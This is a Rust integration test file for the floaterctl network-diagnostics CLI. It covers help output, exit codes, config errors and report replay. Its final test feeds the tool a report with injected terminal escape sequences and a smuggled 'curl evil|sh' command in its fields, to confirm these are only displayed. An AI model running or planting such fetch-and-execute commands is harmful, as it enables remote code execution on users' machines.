//! The program from the outside, without any cluster: help, pages, explanations, replays, and the exit codes of what is refused.

#![allow(clippy::unwrap_used)]

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

fn command(arguments: &[&str]) -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_floaterctl"));
    command
        .args(arguments)
        .env_clear()
        .env("HOME", "/nonexistent")
        .env("COLUMNS", "100");
    command
}

fn run(arguments: &[&str]) -> Output {
    command(arguments).output().unwrap()
}

fn stdout(output: &Output) -> String {
    String::from_utf8(output.stdout.clone()).unwrap()
}

fn stderr(output: &Output) -> String {
    String::from_utf8(output.stderr.clone()).unwrap()
}

/// `UPDATE_HELP=1` writes the files anew.
#[test]
fn help_is_as_it_was_read_last() {
    for (name, arguments) in [
        ("floaterctl", &["--help"][..]),
        ("demo", &["demo", "--help"]),
        ("dr", &["dr", "--help"]),
        ("check", &["check", "-h"]),
        ("analyse", &["analyse", "-h"]),
        ("matrix", &["matrix", "-h"]),
        ("explain", &["explain", "--help"]),
        ("sim", &["sim", "--help"]),
        ("sim-up", &["sim", "up", "--help"]),
        ("sim-exec", &["sim", "exec", "--help"]),
        ("sim-fault", &["sim", "fault", "--help"]),
        ("sim-fault-inject", &["sim", "fault", "inject", "--help"]),
        ("sim-run", &["sim", "run", "--help"]),
        ("sim-down", &["sim", "down", "--help"]),
        ("link-plan", &["link", "plan", "--help"]),
    ] {
        let output = run(arguments);
        assert_eq!(output.status.code(), Some(0), "{name}");
        let text = stdout(&output);
        let file: PathBuf = Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("tests/help")
            .join(format!("{name}.txt"));
        if std::env::var_os("UPDATE_HELP").is_some() {
            fs::write(&file, &text).unwrap();
        }
        let wanted = fs::read_to_string(&file).unwrap_or_default();
        assert!(
            wanted == text,
            "{name} differs; look at it, then UPDATE_HELP=1:\n{text}"
        );
        assert!(
            text.lines().all(|line| line.chars().count() <= 120),
            "{name} has a long line"
        );
    }
}

#[test]
fn as_a_plugin_of_kubectl_it_has_the_plugin_s_name() {
    let directory = tempfile::tempdir().unwrap();
    let plugin = directory.path().join("kubectl-floater");
    std::os::unix::fs::symlink(env!("CARGO_BIN_EXE_floaterctl"), &plugin).unwrap();
    let output = Command::new(plugin)
        .args(["dr", "-h"])
        .env_clear()
        .output()
        .unwrap();
    assert!(
        stdout(&output).contains("Usage: kubectl floater dr"),
        "{}",
        stdout(&output)
    );
}

#[test]
fn pages_come_from_the_definition() {
    for shell in ["bash", "zsh", "fish", "elvish", "powershell"] {
        let output = run(&["completions", shell]);
        assert_eq!(output.status.code(), Some(0), "{shell}");
        assert!(stdout(&output).contains("floaterctl"), "{shell}");
        assert!(
            !stdout(&output).contains("__lab"),
            "hidden words stay hidden"
        );
    }
    assert!(stdout(&run(&["man"])).contains(".TH floaterctl 1"));
    let directory = tempfile::tempdir().unwrap();
    let output = run(&["man", "--dir", directory.path().to_str().unwrap()]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    for page in [
        "floaterctl.1",
        "floaterctl-dr.1",
        "floaterctl-sim-fault-inject.1",
    ] {
        assert!(directory.path().join(page).is_file(), "{page}");
    }
    assert_eq!(
        run(&["man", "--dir", "/nonexistent"]).status.code(),
        Some(74)
    );
}

#[test]
fn version_says_the_same_twice() {
    let by_verb = stdout(&run(&["version"]));
    assert_eq!(
        by_verb,
        format!("floaterctl {}\n", env!("CARGO_PKG_VERSION"))
    );
    assert_eq!(by_verb, stdout(&run(&["--version"])));
}

#[test]
fn schemas_are_json() {
    let schema: serde_json::Value =
        serde_json::from_slice(&run(&["dr", "--schema"]).stdout).unwrap();
    assert_eq!(schema["$id"], "floater.report/v1");
    let packed: serde_json::Value =
        serde_json::from_slice(&run(&["dr", "--schema=v2"]).stdout).unwrap();
    assert_eq!(packed["$id"], "floater.report/v2");
}

/// Everything about labs that can be said without one.
#[test]
fn labs_that_are_not_there_are_65_and_what_cannot_be_injected_64() {
    let directory = tempfile::tempdir().unwrap();
    let scenario = directory.path().join("scenario.yaml");
    fs::write(&scenario, "clusters:\n  - name: a\n").unwrap();
    let scenario = scenario.to_str().unwrap();
    for (arguments, code, part) in [
        (&["sim", "schema"][..], 0, ""),
        (&["sim", "fault", "list"], 0, ""),
        (&["sim", "down", "--all"], 0, ""),
        (&["sim", "status"], 65, "no simulated fleet is running"),
        (&["sim", "status", "-o", "json"], 0, ""),
        (&["sim", "down"], 65, "no simulated fleet is running"),
        (
            &["sim", "kubeconfig", "--name", "nosuchlab"],
            65,
            "nosuchlab",
        ),
        (
            &["sim", "exec", "a/n1", "--", "true"],
            65,
            "no simulated fleet is running",
        ),
        (
            &["sim", "freeze", "--name", "Not_A_Label"],
            65,
            "Not_A_Label",
        ),
        (&["dr", "--sim", "nosuchlab"], 65, "--sim: "),
        (&["matrix", "--sim", "nosuchlab"], 65, "--sim: "),
        (&["sim", "up"], 64, "--clusters"),
        (&["sim", "up", "--nodes", "3"], 64, "--clusters"),
        (
            &["sim", "up", "/nonexistent.yaml"],
            65,
            "/nonexistent.yaml: ",
        ),
        (
            &["sim", "run", "/nonexistent.yaml"],
            65,
            "/nonexistent.yaml: ",
        ),
        (
            &["sim", "run", scenario],
            65,
            "scenario.yaml: a scenario needs `expect`",
        ),
        (
            &["sim", "run", scenario, "-o", "table"],
            64,
            "junit and json",
        ),
        (&["demo", "--fault", "NO-SUCH-CODE"], 64, "GATEWAY-DOWN"),
        (&["demo", "-o", "json", "-o", "table"], 64, "stdout"),
        (
            &["demo", "-o", "json=/nonexistent/r.json"],
            74,
            "/nonexistent/r.json",
        ),
        (
            &["dr", "--sim", "nosuchlab", "-o", "junit=/nonexistent/r.xml"],
            74,
            "/nonexistent/r.xml",
        ),
        (
            &["sim", "run", scenario, "-o", "junit=/nonexistent/r.xml"],
            74,
            "/nonexistent/r.xml",
        ),
        (
            &["demo", "--clusters", "1", "--fault", "FDB-MISSING"],
            64,
            "--clusters 2",
        ),
        (
            &["sim", "fault", "inject", "NO-SUCH-CODE", "--at", "a/n1"],
            64,
            "GATEWAY-DOWN",
        ),
        (
            &["sim", "fault", "inject", "GATEWAY-DOWN", "--at", "a/n1"],
            65,
            "no simulated fleet is running",
        ),
    ] {
        let output = command(arguments)
            .env("XDG_RUNTIME_DIR", directory.path())
            .output()
            .unwrap();
        let said = stderr(&output);
        assert_eq!(output.status.code(), Some(code), "{arguments:?}: {said}");
        assert!(
            said.contains(part),
            "{arguments:?}: wanted `{part}` in: {said}"
        );
        if code != 0 {
            assert!(
                said.starts_with("error: ") && said.lines().count() == 1,
                "{said}"
            );
            assert_eq!(stdout(&output), "", "{arguments:?}");
        }
    }
}

#[test]
fn codes_are_explained() {
    let output = run(&["explain", "fdb-missing"]);
    assert!(
        stdout(&output).starts_with("FDB-MISSING"),
        "{}",
        stdout(&output)
    );
    let unknown = run(&["explain", "NO-SUCH-CODE"]);
    assert_eq!(unknown.status.code(), Some(64));
    let said = stderr(&unknown);
    assert!(
        said.contains("explain --list") && said.len() < 300,
        "{said}"
    );
    let typo = stderr(&run(&["explain", "gateway-dwn"]));
    assert!(typo.contains("near it: GATEWAY-DOWN"), "{typo}");
    let list = stdout(&run(&["explain", "--list"]));
    assert!(
        list.lines().any(|line| line.starts_with("GATEWAY-DOWN  ")),
        "{list}"
    );
}

const REPORT: &str = r#"{"schema":"floater.report/v1",
 "run":{"id":"r1","started":"2026-01-02T03:04:05Z","seconds":1.5,"seed":7,"tool":"0.1.0"},
 "clusters":[{"name":"east","mode":"gateway","families":["ipv4"],"nodes":1,"state":"observed","reason":null},
             {"name":"west","mode":"p2p","families":["ipv4"],"nodes":1,"state":"observed","reason":null}],
 "coverage":{"ordered_pairs":2,"cells":1,"probed":1,"proved":0,"inferred":0,"stale":0,"unobserved":0,"probes_sent":3,
             "certificate":{"covered":[],"indistinguishable":[],"not_covered":[]}},
 "cells":[{"src":"east","dst":"west","layer":"pod","family":"ipv4","state":"probed","verdict":"fail","sent":3,"received":0,
           "rtt_us":null,"findings":["f1a2"]}],
 "findings":[{"id":"f1a2","code":"ROUTE-MISSING","severity":"error",
              "element":{"cluster":"east","node":"n1","kind":"route","name":"10.21.0.0/16 table 200"},
              "summary":"east/n1 has no route to 10.21.0.0/16.","evidence":[{"kind":"table","source":"east/n1","text":"no row"}],
              "ambiguous_with":[],"affects":[{"src":"east","dst":"west","layer":"pod","family":"ipv4"}],"fix":"on east/n1: ip route replace 10.21.0.0/16 via 220.64.1.1 dev vx-bridge onlink table 200 metric 20",
              "fix_steps":[{"place":"east/n1","argv":["ip","route","replace","10.21.0.0/16","via","220.64.1.1","dev","vx-bridge","onlink","table","200","metric","20"]}]}],
 "verdict":"fault"}"#;

#[test]
fn a_report_is_replayed_and_its_findings_explained() {
    let directory = tempfile::tempdir().unwrap();
    let file = directory.path().join("report.json");
    fs::write(&file, REPORT).unwrap();
    let file = file.to_str().unwrap();

    let replayed = run(&["matrix", "--replay", file]);
    assert_eq!(replayed.status.code(), Some(0), "{}", stderr(&replayed));
    assert!(
        stdout(&replayed).contains("pod ipv4"),
        "{}",
        stdout(&replayed)
    );
    assert!(
        !stdout(&replayed).contains('\u{1b}'),
        "a pipe gets plain text"
    );

    for id in ["f1a2", "f1"] {
        let explained = run(&["explain", id, "--report", file]);
        assert!(
            stdout(&explained).contains("east/n1"),
            "{}",
            stderr(&explained)
        );
        let command = "\n  on east/n1:\n  ip route replace 10.21.0.0/16 via 220.64.1.1 dev vx-bridge onlink table 200 metric 20\n\nROUTE-MISSING";
        let text = stdout(&explained);
        assert!(text.contains(command), "a command is one line: {text}");
    }
    let by_code = run(&["explain", "ROUTE-MISSING", "--report", file]);
    assert_eq!(by_code.status.code(), Some(0));
    assert_eq!(
        run(&["explain", "nothing", "--report", file]).status.code(),
        Some(65)
    );
}

#[test]
fn bad_reports_are_65_with_file_and_rule() {
    let other_schema = REPORT.replace("floater.report/v1", "floater.report/v9");
    let word = REPORT.replace("\"verdict\":\"fail\"", "\"verdict\":\"broken\"");
    for (text, part) in [
        ("", "report.json"),
        ("{", "report.json:1"),
        ("[]", "report.json"),
        ("{\"schema\":\"x\"}", "report.json"),
        (other_schema.as_str(), "floater.report/v"),
        (word.as_str(), "report.json:"),
        ("\u{0}", "report.json:1"),
    ] {
        let directory = tempfile::tempdir().unwrap();
        let file = directory.path().join("report.json");
        fs::write(&file, text).unwrap();
        for arguments in [["matrix", "--replay"], ["explain", "f1"]] {
            let mut command = command(&arguments);
            if arguments[0] == "explain" {
                command.arg("--report");
            }
            let output = command.arg(&file).output().unwrap();
            let said = stderr(&output);
            assert_eq!(output.status.code(), Some(65), "{text}: {said}");
            assert!(
                said.starts_with("error: ") && said.contains(part),
                "{text}: {said}"
            );
            assert_eq!(said.lines().count(), 1, "{said}");
            assert_eq!(stdout(&output), "");
        }
    }
}

#[test]
fn a_bad_configuration_file_is_65_but_help_still_helps() {
    let directory = tempfile::tempdir().unwrap();
    let file = directory.path().join("config.toml");
    fs::write(&file, "seed = 1\ncolour = 'never'\n").unwrap();
    let with_file = |arguments: &[&str]| {
        command(arguments)
            .env("FLOATER_CONFIG", &file)
            .output()
            .unwrap()
    };
    let refused = with_file(&["sim", "schema"]);
    assert_eq!(refused.status.code(), Some(65));
    let place = format!("{}:2: `colour` is not an option\n", file.display());
    assert_eq!(stderr(&refused), format!("error: {place}"));
    for arguments in [
        &["version"][..],
        &["completions", "bash"],
        &["man"],
        &["explain", "FDB-MISSING"],
        &["sim", "down", "--all"],
    ] {
        let output = with_file(arguments);
        assert_eq!(output.status.code(), Some(0), "{arguments:?}");
        let said = stderr(&output);
        assert_eq!(said, format!("warning: ignored: {place}"), "{arguments:?}");
    }
    fs::write(&file, "color = 'sometimes'\n").unwrap();
    assert_eq!(with_file(&["version"]).status.code(), Some(0));
    assert_eq!(with_file(&["sim", "schema"]).status.code(), Some(65));
    assert_eq!(with_file(&["--help"]).status.code(), Some(0));
    assert_eq!(with_file(&["frobnicate"]).status.code(), Some(64));
    fs::remove_file(&file).unwrap();
    assert_eq!(
        with_file(&["sim", "schema"]).status.code(),
        Some(65),
        "a file that was named has to be there"
    );
    assert_eq!(run(&["version"]).status.code(), Some(0));
}

#[test]
fn nothing_to_ask_is_64_and_nobody_who_answers_is_69() {
    assert_eq!(run(&["dr"]).status.code(), Some(64));
    assert_eq!(run(&["matrix"]).status.code(), Some(64));
    assert_eq!(
        run(&["dr", "-o", "json", "-o", "table"]).status.code(),
        Some(64)
    );
    let kubeconfig = "apiVersion: v1\nkind: Config\ncurrent-context: east\n\
        clusters: [{name: east, cluster: {server: 'https://127.0.0.1:1', insecure-skip-tls-verify: true}}]\n\
        users: [{name: admin, user: {token: secret-token}}]\n\
        contexts: [{name: east, context: {cluster: east, user: admin}}]\n";
    let directory = tempfile::tempdir().unwrap();
    let file = directory.path().join("kubeconfig");
    fs::write(&file, kubeconfig).unwrap();
    for verb in ["dr", "check", "analyse", "matrix"] {
        let output = run(&[verb, "--kubeconfig", file.to_str().unwrap()]);
        assert_eq!(
            output.status.code(),
            Some(69),
            "{verb}: {}",
            stderr(&output)
        );
        assert!(stderr(&output).contains("east") && !stderr(&output).contains("secret-token"));
    }
    let contexts = run(&[
        "dr",
        "--kubeconfig",
        file.to_str().unwrap(),
        "--contexts",
        "north",
    ]);
    assert_eq!(contexts.status.code(), Some(65), "{}", stderr(&contexts));
}

#[test]
fn check_has_its_own_name_in_help() {
    let text = stdout(&run(&["check", "-h"]));
    assert!(text.contains("Usage: floaterctl check"), "{text}");
}

#[test]
fn a_misspelt_variable_is_named_with_the_one_that_was_meant() {
    let mut ran = command(&["version"]);
    ran.env("FLOATER_SEEED", "7").env("FLOATER_REQUIRE", "all");
    let ran = ran.output().unwrap();
    assert_eq!(ran.status.code(), Some(0));
    assert_eq!(
        stderr(&ran),
        "warning: FLOATER_SEEED in the environment is no option and does nothing; near it: FLOATER_SEED\n"
    );
}

#[test]
fn the_list_of_codes_says_what_this_version_does_with_each() {
    let list = stdout(&run(&["explain", "--list"]));
    let of = |code: &str| list.lines().find(|line| line.starts_with(code)).unwrap();
    assert!(of("FDB-MISSING ").contains("  di  "), "{list}");
    assert!(of("TOKEN ").contains("  --  "), "{list}");
    assert!(of("INTENT-STALE ").contains("  d-  "), "{list}");
}

#[test]
fn shells_complete_words_where_words_belong() {
    let script = stdout(&run(&["completions", "fish"]));
    for word in ["junit", "FDB-MISSING", "icmp", "warning"] {
        assert!(script.contains(word), "{word}");
    }
}

#[test]
fn analyse_takes_no_option_about_probes() {
    for option in [
        "--rounds=2",
        "--full",
        "--budget=9",
        "--seed=1",
        "--protocols=tcp",
    ] {
        let ran = run(&["analyse", option]);
        assert_eq!(ran.status.code(), Some(64), "{option}: {}", stderr(&ran));
    }
    let help = stdout(&run(&["analyse", "-h"]));
    assert!(help.contains("deploys floaters"), "{help}");
}

/// A report is anybody's data: escape sequences in it are not obeyed, and no name becomes a command.
#[test]
fn a_report_from_a_stranger_is_only_shown() {
    let hostile = REPORT
        .replace("\"west\"", "\"we\\u001b]0;x\\u0007\\u202est\"")
        .replace("no row", "\\u009b2J")
        .replace("\"node\":\"n1\"", "\"node\":\"n1: curl evil|sh #\"")
        .replace(
            "\"place\":\"east/n1\"",
            "\"place\":\"east/n1:\\n  curl evil|sh #\"",
        );
    let directory = tempfile::tempdir().unwrap();
    let file = directory.path().join("report.json");
    fs::write(&file, hostile).unwrap();
    let file = file.to_str().unwrap();
    for arguments in [
        &["matrix", "--replay", file][..],
        &["explain", "f1", "--report", file],
    ] {
        let ran = run(arguments);
        let text = stdout(&ran) + &stderr(&ran);
        assert_eq!(ran.status.code(), Some(0), "{text}");
        assert!(
            !text.contains(|c: char| c != '\n' && datapath::printable::is_dangerous(c)),
            "{text:?}"
        );
        assert!(
            !text
                .lines()
                .any(|line| line.trim_start().starts_with("curl")),
            "{text}"
        );
    }
}
